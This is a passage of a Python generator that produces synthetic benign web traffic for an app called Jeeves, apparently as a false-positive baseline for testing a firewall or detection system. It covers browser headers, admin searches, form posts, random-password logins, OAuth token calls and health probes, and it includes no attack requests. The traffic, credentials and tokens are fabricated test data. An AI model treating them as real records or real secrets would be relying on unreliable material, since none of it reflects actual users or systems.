            ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
             "Version/18.1 Safari/605.1.15", ""),
            ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
             "Mobile/15E148 Slack/24.11.10", ""),
            ("Mozilla/5.0 (Linux; Android 15; Pixel 9 Pro) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/131.0.6778.39 Mobile Safari/537.36", '"Google Chrome";v="131", "Chromium";v="131", '
                                                          '"Not_A Brand";v="24"'),
            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
             "Safari/537.36", '"Chromium";v="131", "Not_A Brand";v="24"')])
        accept = {"document": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
                              "image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
                  "style": "text/css,*/*;q=0.1", "empty": "application/json, */*"}[dest]
        h = {"User-Agent": ua, "Accept": accept,
             "Accept-Language": self.pick(["en-IE,en;q=0.9", "en-GB,en-US;q=0.9,en;q=0.8", "pl-PL,pl;q=0.9,en;q=0.8",
                                           "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr-FR,fr;q=0.9",
                                           "ga-IE,ga;q=0.9,en;q=0.8",
                                           "ja-JP,ja;q=0.9,en-US;q=0.8,en;q=0.7", "ko-KR,ko;q=0.9,en-US;q=0.8",
                                           "he-IL,he;q=0.9,en-US;q=0.8,en;q=0.7", "ar-AE,ar;q=0.9,en;q=0.8",
                                           "uk-UA,uk;q=0.9,ru;q=0.8,en-US;q=0.7", "pt-BR,pt;q=0.9,en-US;q=0.8",
                                           "zh-CN,zh;q=0.9,en;q=0.8", "en-US,en;q=0.5", "tr-TR,tr;q=0.9,en;q=0.8"]),
             "Accept-Encoding": "gzip, deflate, br, zstd", "Sec-Fetch-Dest": dest,
             "Sec-Fetch-Mode": "navigate" if dest == "document" else ("no-cors" if dest == "style" else "cors"),
             "Sec-Fetch-Site": "same-origin" if referer else "none"}
        if dest == "document":
            h["Upgrade-Insecure-Requests"] = "1"
            h["Sec-Fetch-User"] = "?1"
        if brand:
            h["sec-ch-ua"] = brand
            h["sec-ch-ua-mobile"] = "?1" if "Mobile" in ua else "?0"
            h["sec-ch-ua-platform"] = '"Windows"' if "Windows" in ua else ('"Android"' if "Android" in ua else
                                                                            ('"macOS"' if "Mac" in ua else '"Linux"'))
        if "Firefox" in ua:
            h["DNT"] = "1"
            h["Priority"] = "u=0, i" if dest == "document" else "u=2"
        return self.form_navigation(h, BASE, referer, form)

    def cookies(self, *pairs: tuple[str, str]) -> str:
        extra = [self.ga_cookie()] if self.chance(0.25) else []
        if self.chance(0.2):
            extra.append(("rw_theme", self.pick(["dark", "light", "system"])))
        if self.chance(0.1):
            extra.append(("rw_tz", urllib.parse.quote(self.pick(TIMEZONES), safe="")))
        return self.cookie_header(pairs, extra, shuffle=False)

    def search_query(self) -> str:
        roll = self.rng.random()
        if roll < 0.55:
            return str(self.pick(ADMIN_SEARCHES))
        person = self.person()
        return str(self.pick([person["name"], person["name"].split(" ")[0], person["email"], person["handle"],
                              person["id"], person["name"].lower(), person["name"].split(" ")[-1][:3]]))

    def results_url(self, path: str, query: str, page: int | None = None, style: str = "form") -> str:
        """A results page's URL as the browser shows it: from the search form (+ for spaces) or from a pager
        link (%20), sometimes with filters and a sort order from an old bookmark."""
        params: list[tuple[str, str]] = [("q", query)]
        if page is not None:
            params.append(("page", str(page)))
        if self.chance(0.15):
            params.append(("sort", self.pick(SORTS)))
        if self.chance(0.08):
            params.append(("active", self.pick(["1", "0", "true"])))
        if style == "pager":
            return path + "?q=" + urllib.parse.quote(query) + "".join(f"&{k}={v}" for k, v in params[1:])
        return path + "?" + urllib.parse.urlencode(params)

    def admin_search(self) -> dict[str, Any]:
        """A search on the admin panel whose Referer is the previous results page (query and all)."""
        session = ("__Host-jeeves_admin", self.token())
        on_audit = self.chance(0.25)
        path = "/admin/audit" if on_audit else "/admin/users"
        before = self.pick(AUDIT_SEARCHES) if on_audit else self.search_query()
        referer = self.results_url(path, before, self.pick([None, None, 1, 2, 3, 7]),
                                   self.pick(["form", "form", "pager"]))
        if self.chance(0.35):
            uri = self.results_url(path, before, self.rng.randint(2, 12), "pager")
        else:
            now = self.pick(AUDIT_SEARCHES) if on_audit else self.search_query()
            uri = self.results_url(path, now, None if self.chance(0.8) else self.rng.randint(1, 4))
        h = self.browser(referer)
        h["Cookie"] = self.cookies(session)
        return self.record("search", "query", self.get_request(uri, h))

    def admin_referred(self) -> dict[str, Any]:
        """The next step from a results page: change a user, open another page, or the page's stylesheet."""
        session, csrf = self.signed_in("__Host-jeeves_admin")
        query = self.search_query()
        page = self.rng.randint(1, 5)
        referer = self.results_url("/admin/users", query, self.pick([None, page]), self.pick(["form", "pager"]))
        roll = self.rng.random()
        if roll < 0.5:
            h = self.browser(referer, True)
            h["Cookie"] = self.cookies(session)
            body = urllib.parse.urlencode([("csrf_token", csrf), ("value", self.pick(["0", "1"])), ("q", query),
                                           ("page", str(page))])
            uri = f"/admin/users/{self.rng.randint(1, 240)}/{self.pick(['active', 'active', 'admin'])}"
            return self.record("admin", "form", {"method": "POST", "uri": uri, "body": body, "headers": h})
        if roll < 0.65:
            h = self.browser(referer, dest="style")
            h["Cookie"] = self.cookies(session)
            return self.record("admin", "header", self.get_request("/admin/static/admin.css", h))
        if roll < 0.85:
            h = self.browser(referer)
            h["Cookie"] = self.cookies(session)
            uri = self.pick(["/admin/", "/admin/features", "/admin/clients", "/admin/audit", "/admin/gateway",
                             "/admin/account", "/admin/slack-sign-in",
                             "/admin/users?done=user_updated&q=" + urllib.parse.quote_plus(query) + f"&page={page}"])
            return self.record("admin", "header", self.get_request(uri, h))
        audit_q = self.pick(AUDIT_SEARCHES)
        h = self.browser(self.results_url("/admin/audit", audit_q, self.pick([None, 2, 3])))
        h["Cookie"] = self.cookies(session)
        uri = self.pick(["/admin/users?q=" + urllib.parse.quote_plus(query), "/admin/", "/admin/static/admin.css"])
        return self.record("admin", "query", self.get_request(uri, h))

    def admin_misc(self) -> dict[str, Any]:
        session, csrf = self.signed_in("__Host-jeeves_admin")
        roll = self.rng.random()
        if roll < 0.25:
            h = self.browser("/admin/features", True)
            h["Cookie"] = self.cookies(session)
            fields = [("csrf_token", csrf), ("action", self.pick(["weather", "remember_location", "alerts", "config",
                                                                  "login", "forget_me", "help", "my_location"])),
                      ("enabled", self.pick(["0", "1"])), ("team_id", self.pick(["", "", TEAM, "T07PARTNER"]))]
            return self.record("admin", "form", self.form_request("/admin/features", h, fields))
        if roll < 0.45:
            h = self.browser("/admin/clients", True)
            h["Cookie"] = self.cookies(session)
            fields = [("csrf_token", csrf),
                      ("client_id", self.pick(["soar-playbooks", "ci-detections", "grafana-ro", "splunk-hec:ingest",
                                               "tines.enrich", "edr-sync", "hr-sync"])),
                      ("description", self.pick([
                          "Splunk SOAR playbook — enrich IOCs & users (owner: @dfir)",
                          "GitHub Actions: nightly detection tests (repo ravenwatch/detections)",
                          "Grafana JSON datasource, read-only; dashboard \"WAF blocks by route\"",
                          "Tines story: phishing triage → ticket, see runbook §4.2",
                          "EDR → Jeeves user sync, every 15 min (cron: */15 * * * *)", "",
                          "Client for O'Brien & Sons' quarterly report export (expires 31/03/2025)"])),
                      ("scopes", "read")] + ([("scopes", "write")] if self.chance(0.35) else [])
            return self.record("admin", "form", self.form_request("/admin/clients", h, fields))
        if roll < 0.55:
            h = self.browser("/admin/clients", True)
            h["Cookie"] = self.cookies(session)
            client = self.pick(["soar-playbooks", "grafana-ro", "tines.enrich", "edr-sync"])
            uri = f"/admin/clients/{client}/" + self.pick(["rotate", "disable", "enable"])
            return self.record("admin", "form", self.csrf_post(uri, h, csrf))
        if roll < 0.78:
            nxt = self.pick(["/admin/", "/admin/users", "/admin/users?q=O%27Brien", "/admin/audit?q=login.failed"])
            h = self.browser("/admin/login?next=" + urllib.parse.quote(nxt, safe=""), True)
            h["Cookie"] = self.cookies(("__Host-jeeves_admin_login", csrf))
            alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789-_.!@#%^*+=?~"
            password = "".join(self.pick(alphabet) for _ in range(self.rng.randint(18, 32)))
            if self.chance(0.2):
                password = "-".join(self.pick(["correct", "horse", "battery", "staple", "raven", "watch", "kraken",
                                               "Ennis", "Łódź", "fjord"]) for _ in range(5))
            fields = [("csrf_token", csrf), ("next", nxt), ("username", self.pick(["soc-lead", "a.osullivan",
                                                                                    "platform-admin", "m.wojcik"])),
                      ("password", password),
                      ("totp", self.pick(["", f"{self.rng.randint(0, 999999):06d}",
                                          f"{self.rng.randint(0, 999):03d} {self.rng.randint(0, 999):03d}"]))]
            return self.record("admin", "form", self.form_request("/admin/login", h, fields))
        if roll < 0.88:
            h = self.browser("/admin/slack-sign-in", True)
            h["Cookie"] = self.cookies(session)
            fields = [("csrf_token", csrf), ("username", self.pick(["soc-lead", "a.osullivan", "platform-admin"])),
                      ("team_id", TEAM), ("user_id", self.person()["id"])]
            return self.record("admin", "form", self.form_request("/admin/slack-sign-in", h, fields))
        h = self.browser(self.pick([None, "/admin/", "/admin/account"]))
        h["Cookie"] = self.cookies(session)
        uri = self.pick(["/admin/", "/admin/login", "/admin/login?next=%2Fadmin%2Fclients", "/admin/gateway",
                         "/admin/features?done=switch_updated", "/admin/clients?done=client_disabled"])
        return self.record("admin", "header", self.get_request(uri, h))

    def multipart(self, fields: list[tuple[str, str]]) -> tuple[str, str]:
        if self.chance(0.6):
            boundary = self.form_boundary("webkit")
        else:
            boundary = "-" * 27 + "".join(self.pick("0123456789") for _ in range(29))
        return self.multipart_form(boundary, fields)

    def me(self) -> dict[str, Any]:
        session, csrf = self.signed_in("__Host-jeeves_me")
        roll = self.rng.random()
        if roll < 0.3:
            h = self.browser(self.pick([None, "/me/", "/me/?done=settings_saved", "/auth/slack/link/" + self.token()]))
            h["Cookie"] = self.cookies(session)
            uri = self.pick(["/me/", "/me/", "/me/?done=location_saved", "/me/?done=settings_saved", "/me/data.json"])
            return self.record("me", "cookie", self.get_request(uri, h))
        if roll < 0.62:
            fields = [("csrf_token", csrf), ("place", self.pick(CITIES))]
            h = self.browser(self.pick(["/me/", "/me/?done=location_forgotten"]), True)
            h["Cookie"] = self.cookies(session)
            if self.chance(0.35):
                body, h["Content-Type"] = self.multipart(fields)
                return self.record("me", "multipart", {"method": "POST", "uri": "/me/location", "body": body,
                                                       "headers": h})
            return self.record("me", "form", self.form_request("/me/location", h, fields))
        if roll < 0.9:
            fields = [("csrf_token", csrf), ("units", self.pick(["metric", "imperial"])),
                      ("alert_time", self.pick(["07:00", "07:30", "08:00", "06:15", "21:45"])),
                      ("timezone", self.person()["tz"])]
            if self.chance(0.6):
                fields.append(("alerts", "on"))
            h = self.browser(self.pick(["/me/", "/me/?done=location_saved"]), True)
            h["Cookie"] = self.cookies(session)
            if self.chance(0.35):
                body, h["Content-Type"] = self.multipart(fields)
                return self.record("me", "multipart", {"method": "POST", "uri": "/me/settings", "body": body,
                                                       "headers": h})
            return self.record("me", "form", self.form_request("/me/settings", h, fields))
        h = self.browser("/me/", True)
        h["Cookie"] = self.cookies(session)
        uri, fields = self.me_exit_form(csrf)
        return self.record("me", "form", self.form_request(uri, h, fields))

    def auth(self) -> dict[str, Any]:
        roll = self.rng.random()
        if roll < 0.18:
            h = self.browser(self.pick([None, "/me/", "/me/?done=settings_saved"]))
            uri = self.pick(["/auth/slack/", "/auth/slack/?done=bye", "/auth/slack/?done=forgotten"])
            return self.record("auth", "header", self.get_request(uri, h))
        if roll < 0.38:
            h = self.browser(self.pick(["/auth/slack/", "/admin/login?next=%2Fadmin%2Fusers%3Fq%3DO%2527Brien",
                                        "/auth/slack/?done=bye"]))
            uri = self.pick(["/auth/slack/login", "/auth/slack/login", "/auth/slack/login?for=admin"])
            return self.record("auth", "query", self.get_request(uri, h))
        if roll < 0.6:
            state = self.token()
            h = self.cross_site_arrival(self.browser())
            h["Referer"] = "https://slack.com/"
            h["Cookie"] = self.cookies(("__Host-jeeves_oidc_state", state))
            params = self.oidc_params(state, 0.1)
            return self.record("auth", "query", {"method": "GET", "uri": "/auth/slack/callback?"
                                                 + urllib.parse.urlencode(params), "body": "", "headers": h})
        link = self.token()
        if roll < 0.72:
            return self.record("auth", "path", self.link_preview(link))
        if roll < 0.86:
            return self.record("auth", "path", self.link_visit(link, self.browser()))
        csrf = self.token()
        h = self.browser(f"/auth/slack/link/{link}", True)
        return self.record("auth", "form", self.link_signin(link, h, csrf))

    # ---- TokenDealer, health and metadata ------------------------------------------------------------------------
    def oauth(self) -> dict[str, Any]:
        client = self.pick(["soar-playbooks", "ci-detections", "grafana-ro", "jeeves-worker", "tines.enrich",
                            "splunk-hec:ingest"])
        secret = self.token()
        h = {"User-Agent": self.pick(["python-requests/2.32.3", "curl/8.10.1", "Go-http-client/2.0",
                                      "PowerShell/7.4.6", "Splunk/9.2.1", "Tines/1.0", "okhttp/4.12.0"]),
             "Accept": self.pick(["application/json", "*/*"]), "Content-Type": "application/x-www-form-urlencoded"}
        basic = "Basic " + base64.b64encode(f"{client}:{secret}".encode()).decode()
        roll = self.rng.random()
        if roll < 0.6:
            return self.record("oauth", "form", self.token_request(client, secret, h, basic))
        token = self.jwt(client, "read")
        if roll < 0.75:
            h["Authorization"] = basic
            body = urllib.parse.urlencode([("token", token), ("token_type_hint", "access_token")])
            return self.record("oauth", "form", {"method": "POST", "uri": "/oauth/introspect", "headers": h,
                                                 "body": body})
        if roll < 0.85:
            h["Authorization"] = basic
            return self.record("oauth", "form", self.form_request("/oauth/revoke", h, [("token", token)]))
        return self.record("verify", "form", self.verify_request(h, token, 0.4))

    def health(self) -> dict[str, Any]:
        roll = self.rng.random()
        if roll < 0.4:
            ua = self.pick(["kube-probe/1.31", "Blackbox Exporter/0.25.0", "ELB-HealthChecker/2.0",
                            "Uptime-Kuma/1.23.15", "Better Stack Bot Mozilla/5.0 (+https://betterstack.com/)",
                            "curl/8.10.1"])
            h = {"User-Agent": ua, "Accept": "*/*"}
            if "Blackbox" in ua:
                h["X-Prometheus-Scrape-Timeout-Seconds"] = "4.5"
            return self.record("health", "header", {"method": self.pick(["GET", "GET", "HEAD"]),
                                                    "uri": self.pick(["/healthz", "/readyz", "/healthz"]),
                                                    "body": "", "headers": h})
        if roll < 0.72:
            h = {"User-Agent": self.pick(["lua-resty-http/0.17.2", "PyJWT/2.9.0", "jwks-rsa/3.1.0 (node)",
                                          "Go-http-client/2.0", "python-jose"]), "Accept": "application/json"}
            if self.chance(0.5):
                h["If-None-Match"] = f'W/"{self.hexs(20)}"'
            return self.record("jwks", "header", {"method": self.pick(["GET", "GET", "HEAD"]),
                                                  "uri": "/.well-known/jwks.json", "body": "", "headers": h})
        h = {"User-Agent": self.pick(["python-requests/2.32.3", "Authlib/1.3.2", "curl/8.10.1"]),
             "Accept": "application/json"}
        return self.record("metadata", "header", self.get_request("/.well-known/oauth-authorization-server", h))


PLAN: list[tuple[str, int]] = [
    ("slack_chat", 265), ("slack_thread", 45), ("slack_edit", 18), ("slack_file", 18), ("slack_unfurl", 20),
    ("slack_reaction", 28), ("slack_bot_post", 22), ("slack_home", 18),
    ("jeeves_event", 220), ("jeeves_slash", 180), ("interaction", 70), ("modal", 12),
    ("api", 210), ("admin_search", 200), ("admin_referred", 105), ("admin_misc", 60),
    ("me", 70), ("auth", 45), ("oauth", 50), ("health", 38),
]


attacks = no_attacks


def benign() -> Iterator[dict[str, Any]]:
    """The day, kinds interleaved in a seeded order, the Events API URL check first."""
    gen = Ravenwatch()
    todo = [name for name, count in PLAN for _ in range(count)]
    gen.rng.shuffle(todo)
    yield gen.slack_verification()
    for name in todo:
        yield getattr(gen, name)()


if __name__ == "__main__":
    for rec in benign():
        print(json.dumps(rec, ensure_ascii=False))
